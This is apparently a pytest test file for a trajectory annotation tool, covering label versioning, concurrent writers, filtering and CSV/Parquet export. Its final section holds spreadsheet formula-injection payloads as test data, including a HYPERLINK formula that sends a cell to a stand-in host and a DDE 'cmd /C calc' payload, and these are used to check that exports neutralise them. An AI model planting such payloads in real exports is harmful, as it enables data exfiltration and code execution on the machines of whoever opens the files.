"""Annotations: versions and tombstones, two writers in two processes, the views, filter, facet and export."""

from __future__ import annotations

import csv
import getpass
import io
import subprocess
import sys
import textwrap
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from horizonlens.cli import app
from horizonlens.errors import LabelError
from horizonlens.labels import annotations as ann
from horizonlens.labels.annotations import Label, add_labels, delete_label, edit_label
from horizonlens.metrics import compounding
from horizonlens.query import TrajectoryFilter, open_store
from horizonlens.query import labels as label_queries
from tests.support.corpora import HOSTILE, make_corpus, step_row, traj_row


@pytest.fixture()
def corpus(tmp_path: Path) -> Path:
    """Three runs: A (4 steps, one failed check), B (3 steps, clean), C (2 steps, one failed check)."""
    trajs = [traj_row("A-t0", 4, "failure"), traj_row("B-t0", 3), traj_row("C-t0", 2, "failure")]
    steps = [step_row("A-t0", 0, "user", None), step_row("A-t0", 1), step_row("A-t0", 2, check=False),
             step_row("A-t0", 3), step_row("B-t0", 0, "user", None), step_row("B-t0", 1), step_row("B-t0", 2),
             step_row("C-t0", 0, "user", None), step_row("C-t0", 1, check=False)]
    return make_corpus(tmp_path / "c", trajs, steps)


def test_a_corpus_without_labels_has_empty_views(corpus: Path) -> None:
    store = open_store(corpus)
    assert store.query("SELECT * FROM annotations").num_rows == 0
    assert store.query("SELECT * FROM annotation_history").column_names == list(ann.ANNOTATIONS.names)
    assert store.list_trajectories(TrajectoryFilter(labels=["x"])).total == 0
    assert not (corpus / "annotations").exists()  # opening never writes


def test_add_edit_delete_keep_every_version(corpus: Path) -> None:
    store = open_store(corpus)
    before = store.version
    (a, b), skipped = add_labels(corpus, [Label("A-t0", "wrong tool", "error", step=2, note="called search"),
                                          Label("A-t0", "gave up early", "note")])
    assert skipped == 0
    assert store.refresh() and store.version != before  # the cache key moves with every commit
    rows = {r["annotation_id"]: r for r in label_queries.labels_of(store, "A-t0").to_pylist()}
    assert rows[a]["step"] == 2 and rows[a]["version"] == 1 and rows[b]["step"] is None
    assert rows[a]["author"] == getpass.getuser() and rows[a]["source"] == "manual"
    assert rows[a]["created_at"] is not None

    assert edit_label(corpus, a, ann.as_label(rows[a], label="wrong tool: search", step=1), author="rev") == 2
    assert delete_label(corpus, b, author="rev") == 2
    store.refresh()
    current = label_queries.labels_of(store, "A-t0").to_pylist()
    assert [(r["annotation_id"], r["label"], r["step"], r["version"], r["author"]) for r in current] == [
        (a, "wrong tool: search", 1, 2, "rev")]
    history = label_queries.label_history(store, b).to_pylist()
    assert [(r["version"], r["deleted"], r["label"]) for r in history] == [(1, False, "gave up early"),
                                                                          (2, True, "gave up early")]
    assert label_queries.all_labels(store, history=True).num_rows == 4
    with pytest.raises(LabelError, match="was deleted"):
        edit_label(corpus, b, Label("A-t0", "again"))
    with pytest.raises(LabelError, match="no annotation"):
        delete_label(corpus, "nope")
    with pytest.raises(LabelError, match="another trajectory"):
        edit_label(corpus, a, Label("B-t0", "moved"))


def test_same_label_twice_is_stored_once(corpus: Path) -> None:
    label = Label("C-t0", "x", "failure", step=1, source="agentrx")
    assert len(add_labels(corpus, [label, label])[0]) == 1
    assert add_labels(corpus, [label]) == ([], 1)
    assert len(add_labels(corpus, [label], skip_existing=False)[0]) == 1  # a person may add it again on purpose


@pytest.mark.parametrize(("label", "message"), [
    (Label("A-t0", "   "), "needs a label"),
    (Label("A-t0", "x" * 501), "at most 500"),
    (Label("A-t0", "x", step=-1), "step number"),
    (Label("A-t0", "x", note="n" * 20_001), "at most 20,000"),
    (Label("", "x"), "needs a trajectory id"),
])
def test_bad_labels_are_refused_and_nothing_is_written(corpus: Path, label: Label, message: str) -> None:
    with pytest.raises(LabelError, match=message):
        add_labels(corpus, [Label("A-t0", "fine"), label])
    assert not ann.annotations_dataset(corpus).exists()


def test_hostile_text_round_trips_exactly(corpus: Path) -> None:
    add_labels(corpus, [Label("A-t0", HOSTILE, HOSTILE[:100], step=1, note=HOSTILE, agent="'; --"),
                        Label("A-t0", "lone \ud800 surrogate")])
    store = open_store(corpus)
    rows = label_queries.labels_of(store, "A-t0").to_pylist()
    assert {r["label"] for r in rows} == {HOSTILE.strip(), "lone ? surrogate"}
    assert store.list_trajectories(TrajectoryFilter(labels=[HOSTILE.strip()])).total == 1


WRITER = textwrap.dedent("""
    import sys
    from horizonlens.labels.annotations import Label, add_labels, edit_label
    root, who, shared = sys.argv[1], sys.argv[2], sys.argv[3]
    for i in range(25):  # 25 transactions of 4 labels, interleaved with the other writer's
        add_labels(root, [Label("A-t0", f"{who}-{i}-{j}", step=j % 4) for j in range(4)], author=who)
        edit_label(root, shared, Label("A-t0", f"edit by {who} {i}"), author=who)
    print("done")
""")


def test_two_writers_in_two_processes_lose_nothing(corpus: Path, tmp_path: Path) -> None:
    (shared,), _ = add_labels(corpus, [Label("A-t0", "edited by both")])
    script = tmp_path / "writer.py"
    script.write_text(WRITER)
    procs = [subprocess.Popen([sys.executable, str(script), str(corpus), who, shared], stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True) for who in ("w1", "w2")]
    outs = [p.communicate(timeout=600) for p in procs]
    assert all(p.returncode == 0 for p in procs), [o[1][-2000:] for o in outs]
    store = open_store(corpus)
    labels = {r["label"] for r in label_queries.all_labels(store).to_pylist()}
    assert {f"{w}-{i}-{j}" for w in ("w1", "w2") for i in range(25) for j in range(4)} <= labels
    versions = [r["version"] for r in label_queries.label_history(store, shared).to_pylist()]
    assert versions == list(range(1, 52))  # 1 + 50 edits, numbered under the lock: none lost, none doubled
    assert store.scalar("SELECT count(*) FROM annotation_history") == 1 + 200 + 50


def test_many_saves_are_folded_into_one_file_with_history(corpus: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ann, "MAX_FILES", 4)
    ids = [add_labels(corpus, [Label("B-t0", f"l{i}", step=1)])[0][0] for i in range(4)]
    delete_label(corpus, ids[0])
    snap = ann.annotations_dataset(corpus).snapshot()
    assert len(snap.table(ann.LABELS_TABLE)) == 1  # the fifth save folded the four files into one
    assert not [p for p in (corpus / "annotations" / "labels").iterdir() if p.name not in
                {Path(f.path).name for f in snap.files}]
    store = open_store(corpus)
    assert sorted(r["label"] for r in label_queries.all_labels(store).to_pylist()) == ["l1", "l2", "l3"]
    assert store.scalar("SELECT count(*) FROM annotation_history") == 5


def test_filter_and_facet_by_label(corpus: Path) -> None:
    add_labels(corpus, [Label("A-t0", "loop", "failure", step=2), Label("A-t0", "root", "root_cause", step=2),
                        Label("C-t0", "loop", "failure", step=1), Label("B-t0", "fine", "note")])
    store = open_store(corpus)
    page = store.list_trajectories(TrajectoryFilter(labels=["loop"]), sort="trajectory_id")
    assert page.rows["trajectory_id"].to_pylist() == ["A-t0", "C-t0"]
    assert store.list_trajectories(TrajectoryFilter(labels=["fine", "root"])).total == 2
    assert label_queries.label_values(store) == ["fine", "loop", "root"]
    rate = compounding.step_error_rate(store, "label_category").set_index("group")
    # A: checks at steps 1-3, one failed; B: 2 checks; C: 1 check, failed
    assert rate.loc["failure + root_cause", ["checks", "failures", "trajectories"]].tolist() == [3, 1, 1]
    assert rate.loc["failure", ["checks", "failures"]].tolist() == [1, 1]
    assert rate.loc["note", ["checks", "failures"]].tolist() == [2, 0]
    assert set(compounding.survival(store, "label_category")["group"]) == set(rate.index)


def test_a_damaged_labels_file_is_left_out_and_reported(corpus: Path) -> None:
    add_labels(corpus, [Label("A-t0", "kept")])
    add_labels(corpus, [Label("B-t0", "lost")])
    damaged = ann.annotations_dataset(corpus).snapshot().paths(ann.LABELS_TABLE)[1]
    damaged.write_bytes(damaged.read_bytes()[:20])
    store = open_store(corpus)
    assert [r["label"] for r in label_queries.all_labels(store).to_pylist()] == ["kept"]
    assert store.label_problems and "left out" in store.label_problems[0]


def test_export_csv_and_parquet_and_import_them_back(corpus: Path, tmp_path: Path) -> None:
    add_labels(corpus, [Label("A-t0", "x, \"quoted\"\nnewline", "error", step=2, note=HOSTILE),
                        Label("C-t0", "y", "failure", step=1, agent="Planner")])
    runner = CliRunner()
    out = runner.invoke(app, ["annotate", "export", str(corpus), "--out", str(tmp_path / "l.csv")])
    assert out.exit_code == 0 and "wrote 2 labels" in out.output
    rows = list(csv.DictReader(io.StringIO((tmp_path / "l.csv").read_text())))
    assert {r["label"] for r in rows} == {"x, \"quoted\"\nnewline", "y"}
    assert next(r for r in rows if r["label"] == "y")["agent"] == "Planner"
    assert set(rows[0]) == set(ann.COLUMNS)
    out = runner.invoke(app, ["annotate", "export", str(corpus), "--out", str(tmp_path / "h.parquet"), "--history"])
    assert out.exit_code == 0
    assert pq.read_table(tmp_path / "h.parquet").num_rows == 2
    bad = runner.invoke(app, ["annotate", "export", str(corpus), "--out", str(tmp_path / "l.xlsx")])
    assert bad.exit_code == 1 and "csv or parquet" in bad.output
    # the export is a label table: importing it into a fresh copy gives the same labels
    other = make_corpus(tmp_path / "other", [traj_row("A-t0", 4), traj_row("C-t0", 2)],
                        [step_row("A-t0", s) for s in range(4)] + [step_row("C-t0", s) for s in range(2)])
    for f in ("l.csv", "h.parquet"):
        res = runner.invoke(app, ["annotate", "import", str(tmp_path / f), "--into", str(other), "--format", "table"])
        assert res.exit_code == 0, res.output
    back = label_queries.all_labels(open_store(other)).to_pylist()
    assert sorted((r["trajectory_id"], r["step"], r["label"], r["note"], r["source"]) for r in back) == sorted(
        (r["trajectory_id"], int(r["step"]), r["label"], r["note"] or None, r["source"]) for r in rows)


# --- exports safe to open in a spreadsheet ------------------------------------------------------------------------
FORMULAS = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\tindented", "\rreturn", "'=already quoted", "''=twice", "plain", "a=b", "-"]


def test_label_csv_export_neutralises_formulas_and_imports_back(corpus: Path, tmp_path: Path) -> None:
    """OWASP: a cell starting with = + - @ tab or CR gets a leading quote; the table import takes it off again."""
    # labels and agents are stored trimmed, so the tab and CR cases are notes
    labels = [Label("A-t0", t if t == t.strip() else f"label {i}", step=1, note=t, agent=t.strip() or None)
              for i, t in enumerate(FORMULAS)]
    add_labels(corpus, labels)
    runner = CliRunner()
    out = runner.invoke(app, ["annotate", "export", str(corpus), "--out", str(tmp_path / "l.csv")])
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO((tmp_path / "l.csv").read_bytes().decode(), newline="")))
    cells = [r[c] for r in rows for c in ("label", "note", "agent")]
    assert len(cells) == 3 * len(FORMULAS)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert sorted(r["note"] for r in rows) == sorted("'" + t if t[:1] in "=+-@\t\r" or t.startswith(("'=", "''="))
                                                     else t for t in FORMULAS)
    other = make_corpus(tmp_path / "other", [traj_row("A-t0", 4)], [step_row("A-t0", s) for s in range(4)])
    res = runner.invoke(app, ["annotate", "import", str(tmp_path / "l.csv"), "--into", str(other), "--format", "table"])
    assert res.exit_code == 0, res.output
    back = label_queries.all_labels(open_store(other)).to_pylist()
    assert sorted((r["label"], r["note"], r["agent"]) for r in back) == sorted(
        (x.label, x.note, x.agent) for x in labels)


@settings(max_examples=300, deadline=None)
@given(text=st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "\n"]), max_size=6))
def test_csv_cells_are_neutralised_and_restored_exactly(text: str) -> None:
    from horizonlens.storage.csv_cells import neutralise, restore

    safe = neutralise(text)
    assert safe[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert restore(safe) == text


def test_csv_bytes_of_frames_and_tables_agree() -> None:
    import pandas as pd
    import pyarrow as pa

    from horizonlens.storage.csv_cells import csv_bytes

    df = pd.DataFrame({"text": ["=1+1", "ok", None], "n": [-1, 2, 3], "lists": [["=x"], [], None]})
    rows = list(csv.reader(io.StringIO(csv_bytes(df).decode())))
    assert rows[1][:2] == ["'=1+1", "-1"]  # numbers stay numbers; only text is quoted
    table = pa.table({"text": ["=1+1", "@x", None], "n": [-1, 2, 3]})
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode())))
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'@x", ""] and rows[1][1] == "-1"


def test_label_csv_download_is_the_same_safe_bytes(corpus: Path) -> None:
    add_labels(corpus, [Label("A-t0", "=1+1", step=1)])
    table = label_queries.all_labels(open_store(corpus))
    text = ann.export_bytes(table, "csv").decode()
    assert "'=1+1" in text and ",=1+1" not in text
